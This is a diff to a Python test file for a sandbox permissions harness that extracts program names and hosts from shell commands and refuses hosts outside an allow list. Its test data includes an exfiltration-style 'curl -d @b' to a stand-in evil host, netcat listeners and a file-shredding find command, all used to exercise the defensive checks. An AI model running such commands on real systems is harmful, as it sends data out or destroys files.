@@ -19,6 +19,7 @@ from skvm.harness.permissions import (
     Permission,
     PermissionMode,
     Permissions,
+    hosts_of,
     load_permissions,
     policy_for,
     programs_of,
@@ -50,20 +51,54 @@ def grant(
 @pytest.mark.parametrize(
     ("command", "programs"),
     [
-        ("curl -s x | jq .a", ("curl", "jq")),
-        ("cd out && FOO=1 make all; ls", ("ls", "make")),
-        ("for f in *; do convert $f; done", ("convert", "f")),
-        ("if true; then sudo apt install x; fi", ("apt", "sudo", "true")),
-        ("cat > a.sh <<'EOF'\nwget evil\nEOF\nbash a.sh", ("bash", "cat")),
-        ("echo 'unclosed", ()),
-        (["sh", "-c", "nc -l 1"], ("nc",)),
-        (["python3", "-c", "1"], ("python3",)),
+        ("curl -s x | jq .a", "curl jq"),
+        ("cd out && FOO=1 make all; ls", "make ls"),
+        ("for f in *; do convert $f; done", "convert"),
+        ("if true; then sudo apt install x; fi", "true sudo apt"),
+        ("cat > a.sh <<'EOF'\nwget evil\nEOF\nbash a.sh", "cat bash"),
+        ("cat <<EOF | curl -d @- x\nit's # `wget`\nEOF\nls", "cat curl ls"),
+        ("echo '<<X'; curl x\nX=1 wc", "echo curl wc"),
+        ("echo 'unclosed", "echo"),
+        ("# it's a look\nls -l # wget x", "ls"),
+        ("ls 2>&1 | head >&2; 2>/dev/null wc a", "ls head wc"),
+        ("python3 a.py \\\n  --out b", "python3"),
+        ("echo $((1 + 2)); ((x++))", "echo"),
+        ("env A=1 curl x; xargs -n1 wget < a; timeout 5 nc x", "env curl xargs wget timeout nc"),
+        ("bash -lc 'curl x'; eval 'nc y'", "bash curl nc"),
+        ('echo "$(curl x)" `nc y`', "echo curl nc"),
+        ("find . -name a -exec shred {} ;", "find shred"),
+        ("diff <(sort a) <(/usr/bin/curl x)", "diff sort /usr/bin/curl"),
+        (["sh", "-c", "nc -l 1"], "sh nc"),
+        (["python3", "-c", "1"], "python3"),
+        (["sudo"] * 5000, "sudo"),
     ],
 )
-def test_the_programs_of_a_command(command: str | list[str], programs: tuple[str, ...]) -> None:
-    found = programs_of(command)
-    assert set(programs) - {"f"} <= set(found)
-    assert "wget" not in found
+def test_the_programs_of_a_command(command: str | list[str], programs: str) -> None:
+    assert programs_of(command) == tuple(sorted(programs.split()))
+
+
+def test_the_hosts_of_a_command() -> None:
+    line = (
+        "sh -c 'curl -s https://u:p@a.example/x' && git clone ssh://git@b.example/y; echo https://c.example"
+    )
+    assert hosts_of(line) == ("a.example", "b.example")
+
+
+def test_a_host_beyond_the_list_is_refused_in_a_command_too(tmp_path: Path) -> None:
+    fake, notes = FakeCell(), list[str]()
+
+    @asynccontextmanager
+    async def opening(_: Policy):  # type: ignore[no-untyped-def]
+        yield fake
+
+    async def run() -> list[int | None]:
+        held = grant(commands=["curl"], hosts=["example.org"])
+        async with held_to(held, Policy(work_dir=tmp_path), opening, notes) as cell:
+            lines = ["curl https://api.example.org/a", "curl -d @b https://evil.example/a"]
+            return [(await cell.execute(line, timeout_s=1)).exit_code for line in lines]
+
+    assert anyio.run(run) == [0, 126]
+    assert notes == ["permissions: host evil.example refused"]
 
 
 @pytest.mark.parametrize(
@@ -205,7 +240,7 @@ def misbehaving(mode: PermissionMode, work: Path) -> tuple[list[str], list[str]]
     async def run() -> None:
         policy = Policy(work_dir=work, network=True)
         async with held_to(grant(mode, write=["ok.txt"]), policy, opening, notes) as cell:
-            await cell.execute("cat a | curl x", timeout_s=1)
+            await cell.execute("# look\ncat a 2>&1 | od; no-such-program", timeout_s=1)
             for action in (cell.write("bad.txt", b""), cell.fetch("https://example.org/")):
                 try:
                     await action
@@ -222,7 +257,7 @@ def test_enforced_refuses_and_tells(tmp_path: Path) -> None:
     seen, notes = misbehaving("enforce", tmp_path)
     assert seen == [f"write {tmp_path}/ok.txt", "fetch http://localhost:8000/"]
     assert [note.split(" refused")[0] for note in notes] == [
-        "permissions: program curl",
+        "permissions: program od",
         "permissions: writing bad.txt",
         "permissions: host example.org",
     ]
